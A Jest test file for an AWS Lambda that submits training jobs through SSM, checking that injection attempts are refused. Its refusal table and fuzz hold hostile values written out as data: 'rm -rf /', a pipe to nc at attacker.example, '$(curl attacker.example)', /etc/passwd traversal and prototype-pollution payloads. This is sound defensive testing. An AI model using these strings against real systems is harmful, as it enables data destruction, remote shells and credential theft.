import { GetJobRunCommand } from '@aws-sdk/client-glue';
import { GetObjectCommand } from '@aws-sdk/client-s3';
import { GetCommandInvocationCommand, SendCommandCommand } from '@aws-sdk/client-ssm';
import { createHandler } from '../../lambda/submit';
import { RUN_NAME_PATTERN } from '../../lib/data/job-arguments';
import { checkManifest } from '../../lib/training/manifest';
import { planRun, trainingDefaults } from '../../lib/training/plan';
import { InvalidRequestError } from '../../lib/training/requests';
import {
  CHECKPOINTS,
  COMMAND_ID,
  configWith,
  DATASETS,
  decodeParameters,
  DOCUMENT_NAME,
  fakeClock,
  invocation,
  manifest,
  mockFunctionClients,
  objectBody,
  SECRET_ARN,
  submitLine,
} from './support';

/**
 * Hostile input, everywhere a caller can put a value: the run name, the overrides, the event's other fields, and
 * what the function reads back (the Glue run's arguments, the manifest). Each is either refused by validation
 * before any AWS call, or accepted and then unable to change the command: the function sends the stack's document
 * with only its two parameters, each of the document's shape, and the request blob decodes back to the validated
 * request.
 */

const { ssm, s3, glue } = mockFunctionClients({ autoSubmit: true });
let handler: ReturnType<typeof createHandler>;

beforeEach(() => {
  handler = createHandler(fakeClock().clock);
  // The fake script answers the action and run its command's parameters name.
  let answer = '';
  ssm.on(SendCommandCommand).callsFake((input) => {
    const { action, request } = decodeParameters(input.Parameters);
    const run = (request as { run: string }).run;
    if (action === 'status') answer = JSON.stringify({ run, jobs: {} });
    else if (action === 'cancel') answer = JSON.stringify({ run, cancelled: [] });
    else answer = submitLine(run);
    return { Command: { CommandId: COMMAND_ID } };
  });
  ssm.on(GetCommandInvocationCommand).callsFake(() => invocation(answer));
});

function expectNoAwsCall() {
  expect(s3.calls()).toHaveLength(0);
  expect(ssm.calls()).toHaveLength(0);
  expect(glue.calls()).toHaveLength(0);
}

/** An object parsed from JSON text, as the Lambda runtime gives events (own `__proto__` keys and all). */
const json = (text: string): unknown => JSON.parse(text);
const submit = (run: unknown, extra: Record<string, unknown> = {}) => ({ action: 'submit', run, ...extra });

const REFUSED: Array<[string, unknown]> = [
  // Run names: shell syntax, quoting, globbing, traversal, size, encodings, types.
  ['run with ;', submit('r1; rm -rf /')],
  ['run with &&', submit('r1 && reboot')],
  ['run with ||', submit('r1 || true')],
  ['run with |', submit('r1 | nc attacker.example 4444')],
  ['run with $(...)', submit('$(curl attacker.example)')],
  ['run with ${...}', submit('${IFS}id')],
  ['run with backticks', submit('`id`')],
  ['run with a single quote', submit("r1'; reboot; '")],
  ['run with a double quote', submit('r1" && reboot && "')],
  ['run with a newline', submit('r1\nreboot')],
  ['run with a carriage return', submit('r1\rreboot')],
  ['run with a tab', submit('r1\treboot')],
  ['run with a space and an option', submit('r1 --nodes 1')],
  ['run that is an option', submit('-rf')],
  ['run with * (glob)', submit('r*')],
  ['run with ? (glob)', submit('r?')],
  ['run with [...] (glob)', submit('r[0-9]')],
  ['run with ~', submit('~root')],
  ['run with ../', submit('../../etc/passwd')],
  ['run that is ..', submit('..')],
  ['run with a slash', submit('a/b')],
  ['run with > redirection', submit('r1>/etc/passwd')],
  ['run with < redirection', submit('r1</etc/shadow')],
  ['run with & (background)', submit('r1&')],
  ['run with # (comment)', submit('r1#')],
  ['run with ! (history)', submit('r1!!')],
  ['run with a backslash', submit('r1\\')],
  ['run with percent-encoding', submit('%2e%2e%2f')],
  ['run of 64 characters', submit('a'.repeat(64))],
  ['run of 100,000 characters', submit('a'.repeat(100_000))],
  ['run with unicode letters', submit('ünïcödé')],
  ['run with a right-to-left override', submit('r1\u202egnp.exe')],
  ['run with a full-width semicolon', submit('r1\uff1breboot')],
  ['run with a null byte', submit('r1\u0000reboot')],
  ['run in uppercase', submit('R1')],
  ['run that is empty', submit('')],
  ['run that is an object', submit({ toString: 'r1' })],
  ['run that is an array', submit(['r1'])],
  ['run that is a number', submit(1)],
  ['run that is null', submit(null)],
  ['run that is true', submit(true)],
  ['run missing', { action: 'submit' }],
  // Overrides: prototype pollution, wrong types, out of range, unknown keys.
  ['overrides with __proto__', json('{"action":"submit","run":"r1","overrides":{"__proto__":{"nodes":1}}}')],
  [
    'overrides with constructor.prototype',
    json('{"action":"submit","run":"r1","overrides":{"constructor":{"prototype":{"nodes":1}}}}'),
  ],
  ['overrides with prototype', json('{"action":"submit","run":"r1","overrides":{"prototype":{}}}')],
  ['nodes as a string with a command', submit('r1', { overrides: { nodes: '1; reboot' } })],
  ['nodes as a numeric string', submit('r1', { overrides: { nodes: '8' } })],
  ['nodes as an object', submit('r1', { overrides: { nodes: { $gt: 1 } } })],
  ['nodes as an array', submit('r1', { overrides: { nodes: [8] } })],
  ['nodes fractional', submit('r1', { overrides: { nodes: 1.5 } })],
  ['nodes negative', submit('r1', { overrides: { nodes: -1 } })],
  ['nodes NaN', submit('r1', { overrides: { nodes: Number.NaN } })],
  ['epochs Infinity', submit('r1', { overrides: { epochs: Number.POSITIVE_INFINITY } })],
  ['steps beyond safe integers', submit('r1', { overrides: { steps: 1e308 } })],
  ['learningRate as a string', submit('r1', { overrides: { learningRate: '1e-4' } })],
  ['learningRate above the bound', submit('r1', { overrides: { learningRate: 1 } })],
  ['tensorParallel not a divisor', submit('r1', { overrides: { tensorParallel: 3 } })],
  ['an unknown override', submit('r1', { overrides: { command: 'reboot' } })],
  ['an override in another case', submit('r1', { overrides: { Nodes: 8 } })],
  ['overrides that are a string', submit('r1', { overrides: '--nodes 8' })],
  ['overrides that are an array', submit('r1', { overrides: [['nodes', 8]] })],
  ['overrides that are null', submit('r1', { overrides: null })],
  // The event's other fields.
  ['an extra field', submit('r1', { command: 'reboot' })],
  ['an extra __proto__ field', json('{"action":"submit","run":"r1","__proto__":{"isAdmin":true}}')],
  ['action with a command', { action: 'submit; reboot', run: 'r1' }],
  ['action __proto__', { action: '__proto__', run: 'r1' }],
  ['action constructor', { action: 'constructor', run: 'r1' }],
  ['action toString', { action: 'toString', run: 'r1' }],
  ['action in uppercase', { action: 'SUBMIT', run: 'r1' }],
  ['action as an array', { action: ['submit'], run: 'r1' }],
  ['action missing', { run: 'r1' }],
  ['overrides on status', { action: 'status', run: 'r1', overrides: { nodes: 1 } }],
  ['status with a hostile run', { action: 'status', run: '$(reboot)' }],
  ['cancel with a hostile run', { action: 'cancel', run: "'; scancel -u root; '" }],
  ['data-ready with a hostile job run ID', { action: 'data-ready', jobRunId: 'jr_abc; reboot' }],
  ['data-ready with a run name', { action: 'data-ready', jobRunId: 'jr_abc', run: 'r1' }],
  ['an event that is a string', 'submit r1'],
  ['an event that is null', null],
  ['an event that is an array', [{ action: 'submit', run: 'r1' }]],
  ['an event that is a number', 42],
  ['an event whose prototype holds the fields', Object.create({ action: 'submit', run: 'r1' })],
  ['overrides whose prototype holds the fields', submit('r1', { overrides: Object.create({ nodes: 1 }) })],
];

describe('refused by validation before any AWS call', () => {
  test('there are at least 30 hostile inputs', () => {
    expect(REFUSED.length).toBeGreaterThanOrEqual(30);
  });

  test.each(REFUSED)('%s', async (_name, event) => {
    const error = await handler(event).catch((e: Error) => e);
    expect(error).toBeInstanceOf(Error);
    expect((error as Error).name).toBe('InvalidRequest');
    expectNoAwsCall();
    // The message names the problem without echoing control characters, and stays short whatever the input.
    const message = (error as Error).message;
    expect(message.split('\n')[0]).toBe('Invalid training request:');
    expect(
      message
        .split('\n')
        .slice(1)
        .every((line) => line.startsWith('  - ')),
    ).toBe(true);
    // eslint-disable-next-line no-control-regex -- NUL is one of the characters it must not contain
    expect(message).not.toMatch(/[\u0000\r\t\u202e\uff1b]/);
    expect(message.length).toBeLessThan(1500);
  });

  test('errors name the field, the value and what is accepted', async () => {
    await expect(handler(submit('r1; rm -rf /'))).rejects.toThrow(
      'Invalid training request:\n  - run = "r1; rm -rf /": not accepted. Accepted: 1 to 63 lowercase letters, digits and hyphens, starting with a letter or digit',
    );
    await expect(handler(submit('r1', { overrides: { nodes: '8', learningRate: 1 } }))).rejects.toThrow(
      'Invalid training request:\n' +
        '  - overrides.nodes = "8": not a number. Accepted: an integer of at least 1, at most nodeCount (the queue\'s size)\n' +
        '  - overrides.learningRate = 1: not accepted. Accepted: a number above 0 and at most 0.01',
    );
    await expect(handler(json('{"action":"submit","run":"r1","overrides":{"__proto__":{}}}'))).rejects.toThrow(
      'Invalid training request:\n  - overrides: unknown key "__proto__". Accepted: nodes, tensorParallel, globalBatch, microBatch, learningRate, minLearningRate, warmupSteps, epochs, steps, checkpointEvery, checkpointsKept',
    );
    await expect(handler({ action: 'submit; reboot', run: 'r1' })).rejects.toThrow(
      'Invalid training request:\n  - action = "submit; reboot": not an action. Accepted: submit | status | cancel | data-ready',
    );
    await expect(handler(submit('r1', { command: 'reboot' }))).rejects.toThrow(
      'Invalid training request:\n  - unknown key "command". Accepted: action, run, overrides, resume',
    );
    await expect(handler(submit('r1\u0000\u202e'))).rejects.toThrow('run = "r1\\u0000\\u202e": not accepted.');
    await expect(handler(submit('a'.repeat(100_000)))).rejects.toThrow(
      `run = "${'a'.repeat(79)}… (100002 characters): not accepted.`,
    );
    await expect(handler(submit({ a: 1 }))).rejects.toThrow('run = an object: not a string.');
    await expect(handler({ action: 'submit' })).rejects.toThrow('run = (none): missing.');
  });

  test('the prototype of objects is untouched by a refused __proto__ key', async () => {
    await handler(json('{"action":"submit","run":"r1","overrides":{"__proto__":{"polluted":true}}}')).catch(
      () => undefined,
    );
    await handler(json('{"action":"submit","run":"r1","__proto__":{"polluted":true}}')).catch(() => undefined);
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    expect(Object.prototype).not.toHaveProperty('polluted');
  });
});

describe('accepted, and unable to change the command', () => {
  const DEFAULTS = trainingDefaults(configWith());
  const LOCATIONS = { datasetsBucket: DATASETS, checkpointsBucket: CHECKPOINTS, hfTokenSecretArn: SECRET_ARN };

  /** The request the plan gives for this run and overrides, worked out independently of the handler. */
  function expectedSubmit(run: string, overrides = {}, manifestText = JSON.stringify(manifest(run))) {
    const facts = checkManifest(manifestText, { run, datasetsBucket: DATASETS, sequenceLength: 4096 });
    return planRun({ run, manifest: facts, defaults: DEFAULTS, overrides, locations: LOCATIONS }).request;
  }

  function sent() {
    const calls = ssm.commandCalls(SendCommandCommand);
    expect(calls).toHaveLength(1);
    const input = calls[0].args[0].input;
    expect(input.DocumentName).toBe(DOCUMENT_NAME);
    expect(input.DocumentVersion).toBe('$LATEST');
    expect(input.InstanceIds).toEqual(['i-0123456789abcdef0']);
    // Only the document's two parameters, each of its shape (decodeParameters checks them).
    expect(Object.keys(input.Parameters ?? {}).sort()).toEqual(['action', 'request']);
    return decodeParameters(input.Parameters);
  }

  const LONGEST = `a${'-'.repeat(61)}z`;
  test.each([
    ['the longest run name (63 characters)', LONGEST],
    ['a one-digit run name', '0'],
    ['a run name of hyphens', 'a---b'],
    ['a run name that looks like a number', '1e308'],
  ])('submit with %s', async (_name, run) => {
    s3.on(GetObjectCommand).resolves(objectBody(JSON.stringify(manifest(run))));
    await handler(submit(run));
    expect(s3).toHaveReceivedCommandWith(GetObjectCommand, { Bucket: DATASETS, Key: `datasets/${run}/manifest.json` });
    const { action, request } = sent();
    expect(action).toBe('submit');
    expect(request).toEqual(expectedSubmit(run));
  });

  test.each([
    ['status', LONGEST],
    ['cancel', '0-0'],
  ])('%s with an unusual valid run name', async (action, run) => {
    await handler({ action, run });
    expect(sent()).toEqual({ action, request: { version: 2, run } });
  });

  test.each([
    ['the smallest learning rates', { learningRate: 1e-300, minLearningRate: 5e-324 }],
    // 3 epochs of the fixture's 100,000 rows at 2,048 a step: 147 steps, the most a steps override may ask.
    ['the most steps, saved once', { steps: 147, warmupSteps: 0, checkpointEvery: 147 }],
    [
      'every override at once, each at its bound',
      {
        nodes: 1,
        tensorParallel: 32,
        globalBatch: 8,
        microBatch: 8,
        learningRate: 0.01,
        minLearningRate: 0,
        warmupSteps: 1,
        epochs: 3,
        // ceil(300,000 ÷ 8) = 37,500 steps: 3 checkpoints at most (checkpointsKept), one every 12,500 steps.
        checkpointEvery: 12_500,
        checkpointsKept: 3,
      },
    ],
  ])('overrides: %s', async (_name, overrides) => {
    s3.on(GetObjectCommand).resolves(objectBody(JSON.stringify(manifest('r1'))));
    await handler(submit('r1', { overrides }));
    const { request } = sent();
    expect(request).toEqual(expectedSubmit('r1', overrides));
    const { epochs: _epochs, ...sentAsIs } = overrides as Record<string, number>;
    expect(request).toMatchObject(sentAsIs);
  });

  test.each([
    [
      'the largest safe step count',
      { steps: Number.MAX_SAFE_INTEGER, warmupSteps: 0, checkpointEvery: Number.MAX_SAFE_INTEGER },
      ['steps = 9007199254740991 (override): more than the 147 steps of the configured run'],
    ],
    [
      'a huge global batch',
      { globalBatch: 64 * 2 ** 40, warmupSteps: 0 },
      ['globalBatch = 70368744177664 (override): more than the 2048 rows a step of the deployed configuration'],
    ],
    [
      '100 epochs and 1,000 checkpoints kept',
      { epochs: 100, checkpointsKept: 1000 },
      [
        'epochs = 100 (override): more than the 3 of the deployed configuration (epochs)',
        'checkpointsKept = 1000 (override): more than the 3 of the deployed configuration (checkpointsKept)',
      ],
    ],
    [
      'a checkpoint every 2 steps',
      { checkpointEvery: 2 },
      ["checkpointEvery = 2 (override): the run's 147 steps would save 74 checkpoints, more than the 3 a run may save"],
    ],
  ])(
    'overrides beyond the configuration’s bounds: %s, refused before any command',
    async (_name, overrides, starts) => {
      s3.on(GetObjectCommand).resolves(objectBody(JSON.stringify(manifest('r1'))));
      const error = await handler(submit('r1', { overrides })).catch((e: unknown) => e);
      expect(error).toBeInstanceOf(InvalidRequestError);
      const problems = (error as InvalidRequestError).problems;
      expect(problems).toHaveLength(starts.length);
      starts.forEach((start, i) => expect(problems[i].startsWith(start)).toBe(true));
      expect(ssm.calls()).toHaveLength(0);
    },
  );

  test('hostile text in the manifest’s other fields travels nowhere', async () => {
    const m = manifest('r1') as ReturnType<typeof manifest> & Record<string, unknown>;
    m.codeVersion = '`reboot`; $(id)';
    m.inputs = { domain: { uri: "s3://x/'; reboot; '", textField: '\u0000' } };
    m.created = 'r1\nreboot';
    const text = JSON.stringify(m);
    s3.on(GetObjectCommand).resolves(objectBody(text));
    await handler(submit('r1'));
    const { request } = sent();
    expect(request).toEqual(expectedSubmit('r1', {}, text));
    expect(JSON.stringify(request)).not.toMatch(/reboot|\$\(id\)/);
  });

  test('hostile set paths in the manifest are refused before any command', async () => {
    const m = manifest('r1');
    m.sets.train.path = `${m.sets.train.path}; reboot`;
    s3.on(GetObjectCommand).resolves(objectBody(JSON.stringify(m)));
    await expect(handler(submit('r1'))).rejects.toMatchObject({ name: 'ManifestError' });
    expect(ssm.calls()).toHaveLength(0);
  });

  test.each([
    ['a shell command', 'r1; reboot'],
    ['a substitution', '$(id)'],
    ['a path', '../r2'],
    ['an object', { toString: 'r1' }],
  ])('a Glue --run argument with %s is refused before any command', async (_name, run) => {
    glue.on(GetJobRunCommand).resolves({ JobRun: { JobRunState: 'SUCCEEDED', Arguments: { '--run': run as string } } });
    await expect(handler({ action: 'data-ready', jobRunId: 'jr_0123abcd' })).rejects.toMatchObject({
      name: 'InvalidRequest',
    });
    expect(s3.calls()).toHaveLength(0);
    expect(ssm.calls()).toHaveLength(0);
  });
});

describe('a seeded fuzz of run names from shell metacharacters', () => {
  const ALPHABET = 'ab09-;&|$()`\'"\n\r\t *?[]{}~/\\.<>#!%=,:@^+ü\u0000\u202e';
  let seed = 20260101;
  const random = () => {
    seed = (seed * 1103515245 + 12345) % 2 ** 31;
    return seed / 2 ** 31;
  };
  const names = Array.from({ length: 300 }, () =>
    Array.from({ length: 1 + Math.floor(random() * 12) }, () => ALPHABET[Math.floor(random() * ALPHABET.length)]).join(
      '',
    ),
  );

  test('each name is refused without an AWS call, or is a valid run name sent only inside the blob', async () => {
    let accepted = 0;
    for (const run of names) {
      ssm.resetHistory();
      s3.resetHistory();
      const response = await handler({ action: 'status', run }).catch((e: Error) => e);
      if (RUN_NAME_PATTERN.test(run)) {
        accepted++;
        expect(response).not.toBeInstanceOf(Error);
        const input = ssm.commandCalls(SendCommandCommand)[0].args[0].input;
        expect(input.DocumentName).toBe(DOCUMENT_NAME);
        expect(decodeParameters(input.Parameters)).toEqual({ action: 'status', request: { version: 2, run } });
      } else {
        expect((response as Error).name).toBe('InvalidRequest');
        expect(ssm.calls()).toHaveLength(0);
      }
    }
    // The fuzz exercises both sides.
    expect(accepted).toBeGreaterThan(0);
    expect(accepted).toBeLessThan(names.length);
  });
});
